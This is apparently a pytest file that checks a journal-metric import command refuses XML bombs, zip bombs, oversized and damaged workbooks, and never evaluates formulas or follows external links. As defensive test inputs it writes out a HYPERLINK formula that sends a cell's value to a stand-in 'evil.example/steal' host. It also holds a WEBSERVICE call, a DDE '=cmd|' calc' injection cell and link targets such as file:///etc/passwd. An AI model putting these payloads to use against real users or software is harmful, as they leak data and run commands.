"""Hostile journal-metric files through `journal import` as a user runs it (issue 9): for every
importer, XML bombs (billion laughs, quadratic blowup, external entities), zip bombs named
.xlsx, huge declared dimensions, truncated workbooks and binary files are refused with a clear
error naming the file, and the library is unchanged (every table compared); formulas give
their stored values (never their text, never evaluated) and external links are never
followed (no connection is opened)."""

from __future__ import annotations

import re
import socket
from pathlib import Path

import pytest
from sqlalchemy import text

from cli.app import run
from core.journals.templates import (
    CITESCORE_COLUMNS,
    EXT_LIST_COLUMNS,
    KOKSNVO_COLUMNS,
    citescore_row,
    ext_list_row,
    write_wos_csv,
)
from core.model import Reference
from db.library import Library
from tests.support.crash import table_digest
from tests.support.hostile_files import (
    BILLION_LAUGHS,
    EXTERNAL_ENTITY,
    QUADRATIC_BLOWUP,
    Formula,
    write_xlsx,
    zip_bomb_xlsx,
)

KOKSNVO_ROW = ["Вестник Торайгыров университета. Серия Юридическая", "2710-3994", "", "", "2",
               "Право", "52", "28.01.2021", "2021-01-28", ""]


def _sheets(kind: str, title: object = "Migration Letters") -> dict[str, list[list[object]]]:
    """A small valid file of each xlsx importer, `title` in its first data row; a cell holding
    "{BOMB}" references the entity of an injected DTD."""
    if kind == "scopus-citescore":
        return {"CiteScore 2023": [list(CITESCORE_COLUMNS),
                                   citescore_row(1, title, 3308, "Law", 50, 1, 2, 2,  # type: ignore[arg-type]
                                                 "1741-8984", "{BOMB}")]}
    if kind == "scopus-sources":
        return {"Scopus Sources Jul. 2025": [list(EXT_LIST_COLUMNS),
                                             ext_list_row(1, title, "1741-8984", "{BOMB}",  # type: ignore[arg-type]
                                                          "Active", "2004-2025")]}
    return {"КОКСНВО": [list(KOKSNVO_COLUMNS), [title, *KOKSNVO_ROW[1:3], "{BOMB}",
                                                 *KOKSNVO_ROW[4:]]]}


XLSX_KINDS = ["scopus-citescore", "scopus-sources", "koksnvo"]
ALL_KINDS = [*XLSX_KINDS, "scimago", "wos"]
EXTRA = {"scimago": ["--year", "2023"], "wos": ["--index", "SSCI"]}


@pytest.fixture()
def db(tmp_path: Path) -> Path:
    """A library holding references and a journal dataset already."""
    path = tmp_path / "lib.sqlite"
    with Library.open(path) as lib:
        lib.add_many([Reference(title=f"Көші-қон құқығы {i}") for i in range(20)])
    good = write_xlsx(tmp_path / "CiteScore 2022.xlsx", {"CiteScore 2022": [
        list(CITESCORE_COLUMNS),
        citescore_row(7, "Journal of Law", 3308, "Law", 70, 3, 10, 1, "0028-0836", None)]})
    assert run(["--db", str(path), "journal", "import", str(good), "--source",
                "scopus-citescore"]) == 0
    return path


def _refused(db: Path, capsys: pytest.CaptureFixture[str], file: Path, kind: str,
             match: str) -> None:
    capsys.readouterr()
    before = table_digest(db)
    code = run(["--db", str(db), "journal", "import", str(file), "--source", kind,
                *EXTRA.get(kind, [])])
    out, err = capsys.readouterr()
    assert code == 1, out
    assert match in err and file.name in err, err
    assert table_digest(db) == before


@pytest.mark.parametrize("kind", XLSX_KINDS)
@pytest.mark.parametrize("bomb", [BILLION_LAUGHS, QUADRATIC_BLOWUP, EXTERNAL_ENTITY],
                         ids=["billion-laughs", "quadratic-blowup", "external-entity"])
@pytest.mark.parametrize("part", ["xl/worksheets/sheet1.xml", "xl/workbook.xml",
                                  "xl/_rels/workbook.xml.rels", "[Content_Types].xml"])
def test_xml_bombs_are_refused(db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                               kind: str, bomb: bytes, part: str) -> None:
    file = write_xlsx(tmp_path / "bomb.xlsx", _sheets(kind), prolog=bomb, prolog_part=part)
    _refused(db, capsys, file, kind, "declares a DTD or entities")


@pytest.mark.parametrize("kind", ALL_KINDS)
def test_a_zip_bomb_named_xlsx_is_refused(db: Path, tmp_path: Path,
                                          capsys: pytest.CaptureFixture[str], kind: str) -> None:
    file = zip_bomb_xlsx(tmp_path / "CiteScore 2023.xlsx" if kind in XLSX_KINDS
                         else tmp_path / "scimagojr 2023.csv")
    # The spreadsheet importers open it and refuse the ratio; the CSV importers refuse a ZIP.
    _refused(db, capsys, file, kind, "zip bomb" if kind in XLSX_KINDS else "ZIP archive")


@pytest.mark.parametrize("kind", XLSX_KINDS)
def test_huge_declared_dimensions_are_refused(db: Path, tmp_path: Path,
                                              capsys: pytest.CaptureFixture[str],
                                              kind: str) -> None:
    file = write_xlsx(tmp_path / "big.xlsx", _sheets(kind), dimension="A1:XFD5000000")
    _refused(db, capsys, file, kind, "declares 5,000,000 rows")


@pytest.mark.parametrize("kind", XLSX_KINDS)
def test_a_row_number_beyond_the_limit_is_refused(db: Path, tmp_path: Path,
                                                  capsys: pytest.CaptureFixture[str],
                                                  kind: str) -> None:
    sheets = _sheets(kind)
    file = write_xlsx(tmp_path / "rows.xlsx", sheets)
    import zipfile

    data = zipfile.ZipFile(file).read("xl/worksheets/sheet1.xml")
    data = re.sub(rb'<row r="2">', b'<row r="9000000">', data)
    data = re.sub(rb'r="([A-Z]+)2"', rb'r="\g<1>9000000"', data)
    data = re.sub(rb"<dimension [^>]*/>", b"", data)   # no declared size to refuse early
    with zipfile.ZipFile(tmp_path / "rows2.xlsx", "w") as out, zipfile.ZipFile(file) as src:
        for info in src.infolist():
            out.writestr(info, data if info.filename == "xl/worksheets/sheet1.xml"
                         else src.read(info.filename))
    _refused(db, capsys, tmp_path / "rows2.xlsx", kind,
             "has a row numbered 9,000,000" if kind == "koksnvo" else "more than 1,048,576 rows")


@pytest.mark.parametrize("kind", ALL_KINDS)
@pytest.mark.parametrize("damage", ["truncated", "binary", "nul", "empty"])
def test_broken_files_are_refused(db: Path, tmp_path: Path, capsys: pytest.CaptureFixture[str],
                                  kind: str, damage: str) -> None:
    good = write_xlsx(tmp_path / "g.xlsx", _sheets(kind))
    file = tmp_path / ("CiteScore 2023.xlsx" if kind in XLSX_KINDS else "scimagojr 2023.csv")
    message = {"truncated": "not a valid .xlsx", "binary": "PNG image",
               "nul": "NUL", "empty": "the file is empty"}[damage]
    if damage == "truncated":
        file.write_bytes(good.read_bytes()[:300])
        if kind not in XLSX_KINDS:
            message = "ZIP archive"
    elif damage == "binary":
        file.write_bytes(b"\x89PNG\r\n\x1a\n" + bytes(300))
    elif damage == "nul":
        file.write_bytes("Title;Issn;SJR\nЖурнал;0028-0836;1,0\n".encode() + b"\x00" * 64)
        if kind in XLSX_KINDS:
            message = "NUL"
    else:
        file.write_bytes(b"")
    _refused(db, capsys, file, kind, message)


@pytest.mark.parametrize("kind", XLSX_KINDS)
@pytest.mark.parametrize("part, cut", [("xl/workbook.xml", b"<sheets>"),
                                       ("xl/worksheets/sheet1.xml", b"<sheetData>"),
                                       ("xl/_rels/workbook.xml.rels", b"<Relationship ")])
def test_parts_cut_short_are_refused(db: Path, tmp_path: Path,
                                     capsys: pytest.CaptureFixture[str], kind: str, part: str,
                                     cut: bytes) -> None:
    import zipfile

    good = write_xlsx(tmp_path / "g.xlsx", _sheets(kind))
    file = tmp_path / "CiteScore 2023.xlsx"
    with zipfile.ZipFile(good) as src, zipfile.ZipFile(file, "w") as out:
        for info in src.infolist():
            data = src.read(info.filename)
            if info.filename == part:
                data = data[:data.index(cut) + len(cut)]
            out.writestr(info, data)
    capsys.readouterr()
    before = table_digest(db)
    assert run(["--db", str(db), "journal", "import", str(file), "--source", kind]) == 1
    err = capsys.readouterr().err
    assert file.name in err and ("malformed" in err or "cannot read" in err
                                 or "not well-formed" in err), err
    assert table_digest(db) == before


@pytest.mark.parametrize("kind", XLSX_KINDS)
def test_formulas_give_their_stored_value_never_their_text(db: Path, tmp_path: Path,
                                                           capsys: pytest.CaptureFixture[str],
                                                           kind: str) -> None:
    evil = Formula('HYPERLINK("http://evil.example/steal?"&A1,"Click")', "Journal of Migration")
    sheets = _sheets(kind, title=evil)
    column = 0 if kind == "koksnvo" else 1
    for rows in sheets.values():
        rows[1] = [None if v == "{BOMB}" else v for v in rows[1]]
        never_calculated = list(rows[1])
        never_calculated[column] = Formula('WEBSERVICE("http://evil.example")')
        rows.append([("2041-1723" if v in ("1741-8984", "2710-3994") else v)
                     for v in never_calculated])
    file = write_xlsx(tmp_path / "CiteScore 2023.xlsx", sheets)
    capsys.readouterr()
    assert run(["--db", str(db), "journal", "import", str(file), "--source", kind]) == 0
    with Library.open(db, daily_backup=False) as lib, lib.read() as s:
        titles = [t for (t,) in s.execute(_TITLES)]
    assert "Journal of Migration" in titles
    assert not [t for t in titles if "HYPERLINK" in t or "WEBSERVICE" in t or t.startswith("=")]


def test_csv_cells_that_look_like_formulas_stay_text(db: Path, tmp_path: Path,
                                                     capsys: pytest.CaptureFixture[str]) -> None:
    file = write_wos_csv(tmp_path / "wos-core_SSCI 2023-February-22.csv", [
        ["=cmd|' /C calc'!A0", "1741-8984", "", "TPL", "", "English", "Demography"]])
    assert run(["--db", str(db), "journal", "import", str(file), "--source", "wos"]) == 0
    with Library.open(db, daily_backup=False) as lib, lib.read() as s:
        assert "=cmd|' /C calc'!A0" in [t for (t,) in s.execute(_TITLES)]


@pytest.mark.parametrize("kind", XLSX_KINDS)
@pytest.mark.parametrize("target", ["http://evil.example/other.xlsx", "file:///etc/passwd",
                                    "\\\\evil.example\\share\\book.xlsx"])
def test_external_links_are_never_followed(db: Path, tmp_path: Path,
                                           capsys: pytest.CaptureFixture[str],
                                           monkeypatch: pytest.MonkeyPatch, kind: str,
                                           target: str) -> None:
    opened: list[object] = []

    def no_network(self: socket.socket, address: object) -> None:
        opened.append(address)
        raise OSError("the test forbids connections")

    monkeypatch.setattr(socket.socket, "connect", no_network)
    sheets = _sheets(kind, title=Formula("'[other.xlsx]Sheet1'!A1", "Linked Journal"))
    for rows in sheets.values():
        rows[1] = [None if v == "{BOMB}" else v for v in rows[1]]
    file = write_xlsx(tmp_path / "CiteScore 2023.xlsx", sheets, external_link=target)
    assert run(["--db", str(db), "journal", "import", str(file), "--source", kind]) == 0
    assert opened == []
    with Library.open(db, daily_backup=False) as lib, lib.read() as s:
        assert "Linked Journal" in [t for (t,) in s.execute(_TITLES)]


def test_a_metric_import_backs_up_the_library_first(db: Path, tmp_path: Path,
                                                    capsys: pytest.CaptureFixture[str]) -> None:
    file = write_xlsx(tmp_path / "CiteScore 2023.xlsx", {"CiteScore 2023": [
        list(CITESCORE_COLUMNS),
        citescore_row(1, "Migration Letters", 3308, "Law", 50, 1, 2, 2, "1741-8984", None)]})
    before = table_digest(db)
    capsys.readouterr()
    assert run(["--db", str(db), "journal", "import", str(file), "--source",
                "scopus-citescore"]) == 0
    out = capsys.readouterr().out
    backups = sorted((db.parent / "backups").glob("*before-journal-import.sqlite"))
    assert backups and f"backup before the import: {backups[-1]}" in out
    assert table_digest(backups[-1]) == before   # the library exactly as it was before
    assert table_digest(db) != before


_TITLES = text("SELECT title FROM journals")
